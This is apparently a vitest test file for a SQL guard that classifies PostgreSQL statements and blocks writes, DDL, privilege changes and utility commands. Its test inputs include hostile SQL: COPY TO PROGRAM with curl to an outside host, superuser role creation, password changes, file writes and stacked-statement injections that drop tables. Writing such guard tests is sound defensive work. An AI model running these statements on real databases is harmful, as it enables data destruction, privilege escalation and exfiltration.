/**
 * Statement classification and the statement-kind rules of the query tool: every class, nested
 * writes, EXPLAIN option forms, and the classic smuggling tricks.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { Guard } from '../../../src/guard/index.js';
import type { Decision, GuardRequest } from '../../../src/guard/types.js';
import { demoPolicy, guardRequest, testGuard } from './fixtures/catalog.js';

let guard: Guard;
beforeAll(async () => {
  guard = await testGuard();
});

const decide = (sql: string, o: Partial<GuardRequest> = {}): Decision => guard.decide(guardRequest(sql, o));
const codes = (d: Decision): string[] => d.reasons.map((r) => r.code);

describe('reads', () => {
  it.each([
    'SELECT 1',
    'SELECT * FROM app.orders',
    'TABLE app.orders',
    'VALUES (1), (2)',
    'WITH x AS (SELECT id FROM app.orders) SELECT * FROM x',
    'SELECT id FROM app.orders UNION ALL SELECT id FROM app.customers',
    '(SELECT 1) INTERSECT (SELECT 1)',
  ])('%s is a read', (sql) => {
    const d = decide(sql);
    expect(d.kind).toBe('read');
    expect(d.decision).toBe('allow');
  });
});

describe('writes', () => {
  it.each([
    ['INSERT INTO app.orders (id) VALUES (1)', 'insert'],
    ['UPDATE app.orders SET status = $$x$$ WHERE id = 1', 'update'],
    ['DELETE FROM app.orders WHERE id = 1', 'delete'],
    ['MERGE INTO app.orders o USING app.customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE', 'merge'],
    ['INSERT INTO app.orders SELECT * FROM app.orders ON CONFLICT DO NOTHING', 'insert'],
  ])('%s is a %s, refused by the query tool', (sql, wk) => {
    const d = decide(sql);
    expect(d.kind).toBe('write');
    expect(d.writeKind).toBe(wk);
    expect(codes(d)).toEqual(['WRITE_NOT_ALLOWED']);
  });

  it('data-modifying CTEs at the top and nested three levels deep', () => {
    for (const sql of [
      'WITH d AS (DELETE FROM app.orders RETURNING id) SELECT * FROM d',
      'WITH a AS (WITH b AS (WITH c AS (UPDATE app.orders SET status = status RETURNING id) SELECT * FROM c) SELECT * FROM b) SELECT * FROM a',
      'SELECT * FROM (WITH d AS (DELETE FROM app.orders RETURNING id) SELECT * FROM d) s',
      'SELECT (SELECT count(*) FROM (WITH i AS (INSERT INTO app.orders (id) VALUES (9) RETURNING id) SELECT * FROM i) x)',
      'SELECT * FROM app.orders WHERE id IN (WITH m AS (MERGE INTO app.orders o USING app.orders p ON o.id = p.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m)',
    ]) {
      const d = decide(sql);
      expect(d.kind, sql).toBe('write');
      expect(codes(d), sql).toContain('DATA_MODIFYING_CTE');
      expect(d.decision).toBe('block');
    }
  });

  it('SELECT INTO and CREATE TABLE AS create tables', () => {
    const a = decide('SELECT * INTO app.copy FROM app.orders');
    expect(a.writeKind).toBe('select_into');
    expect(codes(a)).toEqual(['SELECT_INTO']);
    const b = decide('CREATE TABLE app.copy AS SELECT * FROM app.orders');
    expect(b.writeKind).toBe('create_table_as');
    expect(codes(b)).toEqual(['DDL_NOT_ALLOWED']);
    const c = decide('CREATE MATERIALIZED VIEW app.mv AS SELECT * FROM app.orders');
    expect(c.kind).toBe('ddl');
  });
});

describe('EXPLAIN', () => {
  it.each([
    ['EXPLAIN SELECT * FROM app.orders', false],
    ['EXPLAIN ANALYZE SELECT * FROM app.orders', true],
    ['EXPLAIN (ANALYZE) SELECT * FROM app.orders', true],
    ['EXPLAIN (ANALYZE true, FORMAT JSON) SELECT * FROM app.orders', true],
    ['EXPLAIN (ANALYZE on) SELECT 1', true],
    ['EXPLAIN (ANALYZE 1) SELECT 1', true],
    ['EXPLAIN (ANALYZE off) SELECT 1', false],
    ['EXPLAIN (ANALYZE false) SELECT 1', false],
    ['EXPLAIN (ANALYZE 0) SELECT 1', false],
    ['EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1', true],
    ['EXPLAIN VERBOSE SELECT 1', false],
  ])('%s → analyze %s, allowed for reads', (sql, analyze) => {
    const d = decide(sql);
    expect(d.kind).toBe('explain');
    expect(d.explain).toEqual({ analyze, inner: 'read' });
    expect(d.decision).toBe('allow');
  });

  it.each([
    'EXPLAIN ANALYZE DELETE FROM app.orders',
    'EXPLAIN (ANALYZE true) INSERT INTO app.orders (id) VALUES (1)',
    'EXPLAIN (ANALYZE) UPDATE app.orders SET status = status',
    'EXPLAIN (ANALYZE, BUFFERS) MERGE INTO app.orders o USING app.orders p ON o.id = p.id WHEN MATCHED THEN DELETE',
    'EXPLAIN ANALYZE WITH d AS (DELETE FROM app.orders RETURNING 1) SELECT * FROM d',
    'EXPLAIN (ANALYZE yes) DELETE FROM app.orders',
    'EXPLAIN ANALYZE CREATE TABLE app.x AS SELECT 1',
    'EXPLAIN ANALYZE SELECT 1 INTO app.x',
  ])('EXPLAIN_ANALYZE_WRITE: %s', (sql) => {
    const d = decide(sql);
    expect(d.explain?.analyze).toBe(true);
    expect(d.explain?.inner).toBe('write');
    expect(codes(d)).toContain('EXPLAIN_ANALYZE_WRITE');
  });

  it('EXPLAIN of a write without ANALYZE needs a read-write policy', () => {
    expect(codes(decide('EXPLAIN DELETE FROM app.orders'))).toEqual(['WRITE_NOT_ALLOWED']);
    const rw = decide('EXPLAIN DELETE FROM app.orders', { policy: demoPolicy({ mode: 'read-write' }), policyVersion: 2 });
    expect(rw.decision).toBe('allow');
  });

  it('EXPLAIN of a utility statement is refused by the inner kind', () => {
    expect(codes(decide('EXPLAIN EXECUTE p'))).toEqual(['UTILITY_NOT_ALLOWED']);
  });
});

describe('DDL, DCL, transaction, session, utility', () => {
  it.each([
    ['CREATE TABLE app.t (a int)', 'ddl', 'DDL_NOT_ALLOWED'],
    ['DROP TABLE app.orders', 'ddl', 'DDL_NOT_ALLOWED'],
    ['ALTER TABLE app.orders ADD COLUMN x int', 'ddl', 'DDL_NOT_ALLOWED'],
    ['TRUNCATE app.orders', 'ddl', 'DDL_NOT_ALLOWED'],
    ['COMMENT ON TABLE app.orders IS $$x$$', 'ddl', 'DDL_NOT_ALLOWED'],
    ['CREATE INDEX ON app.orders (status)', 'ddl', 'DDL_NOT_ALLOWED'],
    ['CREATE VIEW app.v AS SELECT 1', 'ddl', 'DDL_NOT_ALLOWED'],
    ['CREATE FUNCTION app.f() RETURNS int LANGUAGE sql AS $$SELECT 1$$', 'ddl', 'DDL_NOT_ALLOWED'],
    ['CREATE EXTENSION dblink', 'ddl', 'DDL_NOT_ALLOWED'],
    ['ALTER SYSTEM SET work_mem = $$1GB$$', 'ddl', 'DDL_NOT_ALLOWED'],
    ['CREATE RULE r AS ON SELECT TO app.orders DO INSTEAD SELECT 1', 'ddl', 'DDL_NOT_ALLOWED'],
    ['GRANT SELECT ON internal.api_keys TO public', 'dcl', 'DCL_NOT_ALLOWED'],
    ['REVOKE ALL ON app.orders FROM public', 'dcl', 'DCL_NOT_ALLOWED'],
    ['CREATE ROLE evil SUPERUSER', 'dcl', 'DCL_NOT_ALLOWED'],
    ['ALTER ROLE postgres PASSWORD $$x$$', 'dcl', 'DCL_NOT_ALLOWED'],
    ['DROP ROLE someone', 'dcl', 'DCL_NOT_ALLOWED'],
    ['GRANT pg_read_server_files TO me', 'dcl', 'DCL_NOT_ALLOWED'],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public', 'dcl', 'DCL_NOT_ALLOWED'],
    ['BEGIN', 'transaction', 'TRANSACTION_CONTROL'],
    ['START TRANSACTION READ WRITE', 'transaction', 'TRANSACTION_CONTROL'],
    ['COMMIT', 'transaction', 'TRANSACTION_CONTROL'],
    ['END', 'transaction', 'TRANSACTION_CONTROL'],
    ['ABORT', 'transaction', 'TRANSACTION_CONTROL'],
    ['ROLLBACK', 'transaction', 'TRANSACTION_CONTROL'],
    ['SAVEPOINT s', 'transaction', 'TRANSACTION_CONTROL'],
    ['RELEASE SAVEPOINT s', 'transaction', 'TRANSACTION_CONTROL'],
    ['PREPARE TRANSACTION $$x$$', 'transaction', 'TRANSACTION_CONTROL'],
    ['COMMIT PREPARED $$x$$', 'transaction', 'TRANSACTION_CONTROL'],
    ['SET CONSTRAINTS ALL DEFERRED', 'transaction', 'TRANSACTION_CONTROL'],
    ['SET search_path = internal', 'session', 'SESSION_CONTROL'],
    ['SET LOCAL statement_timeout = 0', 'session', 'SESSION_CONTROL'],
    ['RESET ALL', 'session', 'SESSION_CONTROL'],
    ['DISCARD ALL', 'session', 'SESSION_CONTROL'],
    ['SET ROLE postgres', 'session', 'SESSION_CONTROL'],
    ['RESET ROLE', 'session', 'SESSION_CONTROL'],
    ['SET SESSION AUTHORIZATION postgres', 'session', 'SESSION_CONTROL'],
    ['SET TRANSACTION READ WRITE', 'session', 'SESSION_CONTROL'],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'session', 'SESSION_CONTROL'],
    ['SHOW search_path', 'session', 'SESSION_CONTROL'],
    ['COPY app.orders TO STDOUT', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['COPY app.orders TO PROGRAM $$curl evil$$', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['COPY (SELECT 1) TO $$/tmp/x$$', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['COPY app.orders FROM STDIN', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['VACUUM app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['ANALYZE app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['LOCK TABLE app.orders IN ACCESS EXCLUSIVE MODE', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['LISTEN ch', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['NOTIFY ch', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['UNLISTEN *', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['PREPARE p AS SELECT 1', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['PREPARE p AS DELETE FROM app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['EXECUTE p', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['DEALLOCATE ALL', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['DECLARE c CURSOR FOR SELECT * FROM app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['FETCH 10 FROM c', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['MOVE NEXT IN c', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['CLOSE c', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['DO $$BEGIN PERFORM 1; END$$', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['CALL app.proc()', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['CHECKPOINT', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['LOAD $$auto_explain$$', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['REFRESH MATERIALIZED VIEW app.mv', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['CLUSTER app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['REINDEX TABLE app.orders', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['SECURITY LABEL ON TABLE app.orders IS $$x$$', 'utility', 'UTILITY_NOT_ALLOWED'],
    ['IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO app', 'utility', 'UTILITY_NOT_ALLOWED'],
  ])('%s → %s (%s)', (sql, kind, code) => {
    const d = decide(sql);
    expect(d.kind).toBe(kind);
    expect(d.decision).toBe('block');
    expect(codes(d)).toContain(code);
  });

  it('names COPY … PROGRAM in the message', () => {
    const d = decide("COPY app.orders TO PROGRAM 'curl http://x'");
    expect(d.reasons.find((r) => r.code === 'UTILITY_NOT_ALLOWED')?.message).toMatch(/PROGRAM/);
    expect(JSON.stringify(d.reasons)).not.toContain('curl');
  });
});

describe('smuggling', () => {
  it.each([
    ['SELECT 1; COMMIT; DROP TABLE app.orders', ['MULTI_STATEMENT', 'TRANSACTION_CONTROL', 'DDL_NOT_ALLOWED']],
    ['COMMIT; DROP TABLE app.orders', ['MULTI_STATEMENT', 'TRANSACTION_CONTROL', 'DDL_NOT_ALLOWED']],
    ['END; DELETE FROM app.orders', ['MULTI_STATEMENT', 'TRANSACTION_CONTROL', 'WRITE_NOT_ALLOWED']],
    ['ABORT; SET ROLE postgres', ['MULTI_STATEMENT', 'TRANSACTION_CONTROL', 'SESSION_CONTROL']],
    ["SELECT '--'; DROP TABLE app.orders", ['MULTI_STATEMENT', 'DDL_NOT_ALLOWED']],
    ['SELECT $x$ ; $x$; DROP TABLE app.orders', ['MULTI_STATEMENT', 'DDL_NOT_ALLOWED']],
    ['SELECT 1 /* ; */ ; DROP TABLE app.orders', ['MULTI_STATEMENT', 'DDL_NOT_ALLOWED']],
  ])('%s', (sql, expected) => {
    const d = decide(sql);
    expect(d.decision).toBe('block');
    for (const c of expected) expect(codes(d)).toContain(c);
  });

  it('lists all reasons, deduplicated', () => {
    const d = decide('SELECT pg_sleep(1), pg_sleep(2) FROM internal.api_keys, internal.api_keys k2');
    const list = codes(d);
    expect(list.filter((c) => c === 'UNSAFE_FUNCTION')).toHaveLength(1);
    expect(list.filter((c) => c === 'DENIED_TABLE')).toHaveLength(1);
    expect(list).toContain('DENIED_SCHEMA');
  });
});
